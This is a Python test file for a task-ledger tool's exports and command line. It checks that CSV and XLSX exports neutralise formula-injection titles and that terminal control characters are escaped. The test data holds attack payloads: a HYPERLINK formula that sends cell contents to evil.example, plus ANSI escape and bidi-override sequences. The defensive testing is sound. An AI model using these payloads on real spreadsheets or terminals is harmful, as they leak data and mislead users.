"""Safe outputs: exports never carry a live formula, the terminal never obeys what people typed.

A title like ``=HYPERLINK("http://…","click")`` became a live formula in ``export xlsx`` and was
written as it is to ``export csv``; a title holding ``ESC[31m`` was printed raw by ``task list`` and
``task show``. Cells are now neutralised as OWASP advises and come back exactly on re-import of
duban's own exports; control characters reach the terminal escaped.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest

from engine.ledger_io.columns import export_header
from click.testing import CliRunner

from cli.main import cli
from engine.api import Duban
from engine.ledger_io.exporter import export
from engine.ledger_io.importer import import_ledger

RISKY_TITLES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+1+1",
    "-5% 经费",
    "@SUM(A1:A9)",
    "'=already quoted once",
    "''-quoted twice",
]
PLAIN_TITLES = ["采购程序不规范", "'a quote before plain text", "5% 经费 (not a formula)"]
ESCAPED_TITLES = ["\x1b[31m红色标题\x1b[0m", "RLO \u202e!evil", "OOXML look-alike _x0041_ stays"]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''\t", "'", "a=1", "", "'a"])
def test_neutralised_cells_never_start_a_formula_and_restore_exactly(text: str) -> None:
    """Tabs and carriage returns cannot begin a stored title (the engine strips them), so they are
    checked here, on the cell functions both exports use."""
    from engine.ledger_io.cells import FORMULA_START, neutralise, restore

    cell = neutralise(text)
    assert not cell.startswith(FORMULA_START)
    assert restore(cell) == text


def _tasks(app: Duban, titles: list[str]) -> dict[str, str]:
    """code → title of one task per title."""
    out = {}
    for title in titles:
        view = app.add_task("sup", title, problem="A1.1", leader="@办公室主任", unit="办公室", due="2025-09-30").task
        out[view.code] = title
    return out


def _csv_cells(path: Path) -> dict[str, list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    return {r[0]: r for r in rows[1:]}


def test_csv_export_neutralises_formula_cells_and_leaves_the_rest(app: Duban, tmp_path: Path) -> None:
    risky = _tasks(app, RISKY_TITLES)
    plain = _tasks(app, PLAIN_TITLES)
    out = tmp_path / "ledger.csv"
    export(app, "csv", out)
    cells = _csv_cells(out)
    title_col = export_header().index("细化问题")
    for code, title in risky.items():
        assert cells[code][title_col] == "'" + title
    for code, title in plain.items():
        assert cells[code][title_col] == title
    assert cells[next(iter(plain))][export_header().index("责任领导")] == "'@办公室主任"  # every text cell


def test_xlsx_export_writes_formula_cells_as_quoted_strings(app: Duban, tmp_path: Path) -> None:
    import openpyxl

    risky = _tasks(app, RISKY_TITLES)
    plain = _tasks(app, PLAIN_TITLES)
    out = tmp_path / "ledger.xlsx"
    export(app, "xlsx", out)
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or 't="f"' in s for s in sheets)  # no formula anywhere
    ws = openpyxl.load_workbook(out)["C2025"]
    title_col = export_header().index("细化问题") + 1
    by_code = {str(ws.cell(r, 1).value): ws.cell(r, title_col) for r in range(3, ws.max_row + 1)}
    for code, title in risky.items():
        assert by_code[code].value == title and by_code[code].data_type == "s"
        # Excel shows it as text and keeps it text when edited (a leading quote is text already)
        assert by_code[code].quotePrefix == (not title.startswith("'"))
    for code, title in plain.items():
        assert by_code[code].value == title and not by_code[code].quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_duban_exports_reimport_exactly(app: Duban, tmp_path: Path, fmt: str, clock) -> None:  # type: ignore[no-untyped-def]
    from engine.core.config import Settings

    titles = _tasks(app, [*RISKY_TITLES, *PLAIN_TITLES, *(ESCAPED_TITLES if fmt == "xlsx" else [])])
    out = tmp_path / f"ledger.{fmt}"
    export(app, fmt, out)
    again = import_ledger(app, "sup", out)
    assert again.changed == [] and again.added == []
    other = Duban(f"sqlite:///{tmp_path / 'other.db'}", clock=clock, settings=Settings(),
                  blob_root=tmp_path / "other.ev")
    other.init("root")
    import_ledger(other, "root", out)
    got = {t.code: t.title for t in other.list_tasks()}
    assert {c: got[c] for c in titles} == titles
    assert {t.leader for t in other.list_tasks()} == {"@办公室主任"}


def test_a_csv_that_is_not_dubans_export_keeps_its_quotes(app: Duban, tmp_path: Path, clock) -> None:  # type: ignore[no-untyped-def]
    """Only duban's own export header marks a file whose quotes duban added: elsewhere a leading
    quote is the author's text."""
    from engine.core.config import Settings

    titles = _tasks(app, ["-5% 经费"])
    out = tmp_path / "ledger.csv"
    export(app, "csv", out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    warn = rows[0].index("预警")
    rows = [r[:warn] + r[warn + 1:] for r in rows]  # without the 预警 column: no longer duban's header
    foreign = tmp_path / "foreign.csv"
    with open(foreign, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    other = Duban(f"sqlite:///{tmp_path / 'other.db'}", clock=clock, settings=Settings(),
                  blob_root=tmp_path / "other.ev")
    other.init("root")
    import_ledger(other, "root", foreign)
    (code,) = titles
    assert {t.code: t.title for t in other.list_tasks()}[code] == "'-5% 经费"


# ---------------------------------------------------------------------- the terminal
def _cli_ledger(tmp_path: Path) -> tuple[Path, int]:
    db = tmp_path / "t.db"
    env = {"DUBAN_NOW": "2025-07-04", "DUBAN_USER": "root"}
    runner = CliRunner()
    for args in (["init"], ["campaign", "add", "C", "--inspector", "I", "--target", "T", "--feedback-date", "2025-07-03"],
                 ["problem", "add", "A1", "P"]):
        done = runner.invoke(cli, ["--db", str(db), *args], env=env)
        assert done.exit_code == 0, done.output
    done = runner.invoke(cli, ["--db", str(db), "task", "add", "--problem", "A1", "--leader", "\x1b]0;owned\x07L",
                               "--unit", "办公室", "--due", "2025-09-30", "--json", "--",
                               "\x1b[31m红色\x1b[0m \u202eevil\rX\x9b2J"], env=env)
    assert done.exit_code == 0, done.output
    import json

    return db, json.loads(done.output)["task"]["id"]


@pytest.mark.parametrize("command", [["task", "list"], ["task", "show", "{id}"], ["history", "{id}"],
                                     ["audit", "log"], ["task", "list", "--json"], ["task", "show", "{id}", "--json"],
                                     ["report", "progress", "--format", "json"]])
def test_control_characters_reach_the_terminal_escaped(tmp_path: Path, command: list[str]) -> None:
    db, task_id = _cli_ledger(tmp_path)
    args = [a.replace("{id}", str(task_id)) for a in command]
    done = CliRunner().invoke(cli, ["--db", str(db), *args], env={"DUBAN_NOW": "2025-07-04", "COLUMNS": "250"})
    assert done.exit_code == 0, done.output
    out = done.output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), repr(out)
    assert "\\u001b[31m红色" in out and "\\u202eevil" in out


def test_every_cli_message_goes_through_the_escaping_echo() -> None:
    """cli.common.echo escapes control characters; a bare click.echo elsewhere would not."""
    cli_dir = Path(__file__).resolve().parent.parent / "cli"
    offenders = [p.name for p in cli_dir.glob("*.py")
                 if p.name != "common.py" and re.search(r"click\.(echo|secho)\(", p.read_text(encoding="utf-8"))]
    assert offenders == []
